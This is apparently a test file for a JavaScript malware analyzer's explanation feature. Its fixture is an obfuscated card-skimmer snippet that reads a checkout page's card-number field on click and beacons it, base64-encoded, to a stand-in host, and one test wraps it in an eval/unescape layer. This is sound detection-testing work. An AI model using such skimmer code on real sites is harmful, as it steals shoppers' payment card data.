import assert from 'node:assert/strict';
import { createAnalyzer, type Analyzer } from '../../analyzer/index.ts';
import { analysis as schema, type Explanation } from '../../core/schema/index.ts';

const hide = (text: string): string => `atob('${btoa(text)}')`;
const skimmer = `document.querySelector('#place_order').addEventListener('click', function () {
  var card = document.querySelector(${hide('#cc_number')}).value;
  new Image().src = ${hide('https://stats.invalid/c')} + '?d=' + btoa(card);
});`;

describe('explanation', () => {
  let analyzer: Analyzer;
  before(async () => {
    analyzer = await createAnalyzer({ workers: 1, explain: true });
  });
  after(() => analyzer.close());
  const explain = async (text: string): Promise<Explanation> => {
    const { analysis } = await analyzer.analyze({ path: 'a.js', bytes: Buffer.from(text) });
    return schema.parse(analysis).explanation!;
  };

  it('lists the strings that were decoded, addresses first', async () => {
    const { decoded } = await explain(skimmer);
    assert.ok(decoded[0]!.startsWith('https://stats.invalid/c'), decoded.join('\n'));
    assert.ok(decoded.includes('#cc_number'), decoded.join('\n'));
  });

  it('lists what left the page, with the canaries found in it', async () => {
    const { run } = await explain(skimmer);
    const [first] = run!.requests;
    assert.deepEqual(
      [first!.transport, first!.host, first!.phase, first!.carries],
      ['image', 'stats.invalid', 'event:click', [{ field: 'card-number', encodings: ['base64'] }]],
    );
  });

  it('lists the layers that were opened', async () => {
    const { layers } = await explain(`eval(unescape(${JSON.stringify(encodeURIComponent(skimmer))} + ''));`);
    assert.ok(layers.some(({ kind, decoded }) => kind === 'code' && decoded > 0));
  });

  it('says that nothing was run of what only computes', async () => {
    assert.deepEqual(await explain('var a = 1 + 2; var b = a * 3;'), { layers: [], decoded: [], run: null });
  });

  it('is left out unless it is asked for', async () => {
    const plain = await createAnalyzer({ workers: 1 });
    const { analysis } = await plain.analyze({ path: 'a.js', bytes: Buffer.from(skimmer) });
    await plain.close();
    assert.equal(analysis.explanation, undefined);
  });
});
